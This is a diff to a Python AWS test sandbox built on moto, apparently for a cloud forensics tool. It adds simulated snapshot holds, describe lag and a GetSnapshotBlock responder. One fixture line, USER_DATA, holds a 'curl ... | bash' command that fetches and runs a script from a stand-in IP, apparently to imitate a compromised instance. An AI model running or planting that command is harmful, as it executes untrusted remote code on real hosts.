@@ -5,13 +5,15 @@ from __future__ import annotations
 import base64
 import hashlib
 import json
+import re
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import AbstractContextManager, ExitStack, contextmanager
 from datetime import timedelta
 from typing import Any
 from unittest import mock
+from urllib.parse import parse_qs, urlsplit
 
 import boto3
 import botocore.handlers
@@ -22,7 +24,9 @@ from botocore.exceptions import ConnectionClosedError
 from moto import mock_aws
 from moto.core.botocore_stubber import BotocoreStubber, MockRawResponse
 from moto.ebs.models import EBSSnapshot, ebs_backends
+from moto.ec2.exceptions import InvalidSnapshotIdError
 from moto.ec2.models.elastic_block_store import EBSBackend as Ec2EbsBackend
+from moto.iam.models import get_account_id_from
 from moto.kms.models import kms_backends
 from moto.sts.models import STSBackend
 
@@ -43,6 +47,7 @@ FORENSIC_ACCOUNT = "111122223333"
 FORENSIC_REGION = "us-west-2"
 BLOCK = 512  # moto's EBS direct API block size
 TAG_CASE = "cloudir:case-id"
+_CREDENTIAL = re.compile(r"Credential=([^/]+)/[^/]+/([^/]+)/")  # access key and region of a SigV4 request
 USER_DATA = b"#!/bin/bash\nyum install -y httpd\ncurl -s http://203.0.113.50/x.sh | bash\n"
 
 
@@ -59,6 +64,11 @@ def _profile_parameter(request: dict[str, Any]) -> str:
     """The instance profile ARN (or name) of a serialized EC2 query request."""
     body = request.get("body") or {}
     return str(body.get("IamInstanceProfile.Arn") or body.get("IamInstanceProfile.Name") or "")
+
+
+def _ebs_error(request: Any, status: int, code: str, message: str) -> AWSResponse:
+    body = json.dumps({"message": message})
+    return AWSResponse(request.url, status, {"x-amzn-ErrorType": code}, MockRawResponse(body))
 
 
 class AwsSandbox:
@@ -85,9 +95,15 @@ class AwsSandbox:
         self.block_latency = 0.0  # seconds each GetSnapshotBlock takes (AWS's guide uses 100 ms as its example)
         self.block_reads_in_flight = 0
         self.block_reads_peak = 0  # the most GetSnapshotBlock calls in flight at once
+        self.block_reads_window: list[float] = []  # monotonic times: the first read's start, the last read's end
         # When set, each GetSnapshotBlock waits here until this many are in flight (a test of concurrency that does
         # not depend on timing: too few readers in flight break the barrier and the reads fail).
         self.block_barrier: threading.Barrier | None = None
+        self.blocks_read: list[str] = []  # the snapshot of every block read, in order
+        self._held: dict[str, Callable[[], bool]] = {}  # volume id -> its snapshots stay pending until this is true
+        # EC2 is eventually consistent: a new snapshot is missing from DescribeSnapshots for this long (seconds)
+        self.describe_lag_seconds = 0.0
+        self._snapshot_created: dict[str, float] = {}  # snapshot id -> monotonic creation time
         self._in_flight_lock = threading.Lock()
 
     # -- lifecycle ------------------------------------------------------------------------------------------
@@ -98,6 +114,8 @@ class AwsSandbox:
         self._stack.enter_context(fake_cloudtrail())
         self._stack.enter_context(mock.patch.object(Ec2EbsBackend, "create_snapshot", self._wrap_create_snapshot()))
         self._stack.enter_context(mock.patch.object(Ec2EbsBackend, "copy_snapshot", self._wrap_copy_snapshot()))
+        describe = self._wrap_describe_snapshots()
+        self._stack.enter_context(mock.patch.object(Ec2EbsBackend, "describe_snapshots", describe))
         assume_role = strict_assume_role(STSBackend.assume_role)
         self._stack.enter_context(mock.patch.object(STSBackend, "assume_role", assume_role))
         # Armed before any client exists, so clients made earlier and later (the CLI's own sessions) all see it.
@@ -135,9 +153,13 @@ class AwsSandbox:
         """Give a volume content; later snapshots of it expose these blocks (index -> data)."""
         self.disks[volume_id] = blocks
 
+    def hold_snapshots(self, volume_id: str, until: Callable[[], bool]) -> None:
+        """Snapshots of ``volume_id`` taken from now on stay pending (unreadable) until ``until()`` is true."""
+        self._held[volume_id] = until
+
     def _register_blocks(self, backend: Any, snapshot: Any, blocks: dict[int, bytes]) -> None:
         ebs_snapshot = EBSSnapshot(account_id=backend.account_id, snapshot=snapshot)
-        ebs_snapshot.status = "completed"
+        ebs_snapshot.status = snapshot.status
         for index, data in blocks.items():
             ebs_snapshot.put_block(index, data, block_checksum(data), "SHA256", len(data))
         ebs_backends[backend.account_id][backend.region_name].snapshots[snapshot.id] = ebs_snapshot
@@ -147,11 +169,36 @@ class AwsSandbox:
 
         def create_snapshot(backend: Any, volume_id: str, description: str, *args: Any, **kwargs: Any) -> Any:
             snapshot = original(backend, volume_id, description, *args, **kwargs)
+            self._snapshot_created[snapshot.id] = time.monotonic()
+            if volume_id in self._held:
+                snapshot.status = "pending"
             if volume_id in self.disks:
                 self._register_blocks(backend, snapshot, self.disks[volume_id])
             return snapshot
 
         return create_snapshot
+
+    def _wrap_describe_snapshots(self) -> Any:
+        """A held snapshot completes (for EC2 and the EBS direct APIs) when it is described after its release; a new
+        one is not described at all for ``describe_lag_seconds`` (asked for by id: InvalidSnapshot.NotFound)."""
+        original = Ec2EbsBackend.describe_snapshots
+
+        def describe_snapshots(backend: Any, snapshot_ids: list[str] | None = None, filters: Any = None) -> Any:
+            for snapshot in backend.snapshots.values():
+                until = self._held.get(snapshot.volume.id)
+                if snapshot.status == "pending" and until is not None and until():
+                    snapshot.status = "completed"
+                    direct = ebs_backends[backend.account_id][backend.region_name].snapshots.get(snapshot.id)
+                    if direct is not None:
+                        direct.status = "completed"
+            matches = original(backend, snapshot_ids, filters)
+            seen = time.monotonic() - self.describe_lag_seconds
+            lagging = {sid for sid, at in self._snapshot_created.items() if at > seen}
+            if lagging & set(snapshot_ids or ()):
+                raise InvalidSnapshotIdError()
+            return [snapshot for snapshot in matches if snapshot.id not in lagging]
+
+        return describe_snapshots
 
     def _wrap_copy_snapshot(self) -> Any:
         def register(backend: Any, copy: Any, account: str, region: str, source_id: str) -> None:
@@ -182,6 +229,37 @@ class AwsSandbox:
         block = ebs_backends[ACCOUNT][region or self.region].snapshots[snapshot_id].blocks[index]
         block.checksum = block_checksum(block.block_data + b"tampered")
 
+    def _block_response(self, request: Any) -> AWSResponse:
+        """GetSnapshotBlock answered from the block as PutSnapshotBlock stored it (data, checksum, length).
+
+        moto routes each request through its URL tables, request parser and serializer (some 4 ms of CPU a read); a
+        block read is answered here from the stored block instead, so the read benchmark measures the latency model
+        and the client. Stricter than moto: a wrong block token and a snapshot not yet completed are refused.
+        """
+        url = urlsplit(request.url)
+        parts = url.path.split("/")  # /snapshots/{snapshotId}/blocks/{blockIndex}
+        credential = _CREDENTIAL.search(str(request.headers.get("Authorization", "")))
+        if len(parts) != 5 or credential is None:
+            return _ebs_error(request, 400, "ValidationException", "malformed GetSnapshotBlock request")
+        account, region = get_account_id_from(credential.group(1)), credential.group(2)
+        snapshot = ebs_backends[account][region].snapshots.get(parts[2])
+        block = snapshot.blocks.get(int(parts[4])) if snapshot is not None and parts[4].isdigit() else None
+        if snapshot is None or block is None:
+            return _ebs_error(request, 404, "ResourceNotFoundException", f"block {parts[4]} of {parts[2]} not found")
+        if parse_qs(url.query).get("blockToken") != [block.block_token]:
+            return _ebs_error(request, 400, "ValidationException", "The block token is not valid for this block")
+        if snapshot.status != "completed":
+            return _ebs_error(
+                request, 400, "ValidationException", f"snapshot {parts[2]} is {snapshot.status}, not completed"
+            )
+        self.blocks_read.append(parts[2])
+        headers = {
+            "x-amz-Data-Length": str(block.data_length),
+            "x-amz-Checksum": block.checksum,
+            "x-amz-Checksum-Algorithm": block.checksum_algorithm,
+        }
+        return AWSResponse(request.url, 200, headers, MockRawResponse(block.block_data))
+
     # -- failure injection at the botocore layer -----------------------------------------------------------
     @contextmanager
     def fail_next(self, operation: str, error_code: str = "InternalError") -> Iterator[None]:
@@ -204,13 +282,16 @@ class AwsSandbox:
         with self._in_flight_lock:
             self.block_reads_in_flight += 1
             self.block_reads_peak = max(self.block_reads_peak, self.block_reads_in_flight)
+            self.block_reads_window[:1] = self.block_reads_window[:1] or [time.monotonic()]
         try:
             if self.block_barrier is not None:
                 self.block_barrier.wait()
-            time.sleep(self.block_latency)
+            if self.block_latency:
+                time.sleep(self.block_latency)
         finally:
             with self._in_flight_lock:
                 self.block_reads_in_flight -= 1
+                self.block_reads_window[1:] = [time.monotonic()]
 
     def _inject_failure(self, model: Any, params: dict[str, Any], **_: Any) -> Any:
         """A before-call handler: short-circuits a call armed by :meth:`fail_next` (or refused by IAM propagation)."""
@@ -270,7 +351,10 @@ class AwsSandbox:
                     "</Message></Error></Errors><RequestID>sandbox-throttle</RequestID></Response>"
                 )
                 return AWSResponse(request.url, 503, {}, MockRawResponse(body))
-            response = original(stubber, event_name, request, **kwargs)
+            if stubber.enabled and operation == "GetSnapshotBlock":
+                response: AWSResponse | None = self._block_response(request)
+            else:
+                response = original(stubber, event_name, request, **kwargs)
             if stubber.enabled and self._losses.get(operation, 0) > 0:
                 self._losses[operation] -= 1
                 self.lost.append(operation)
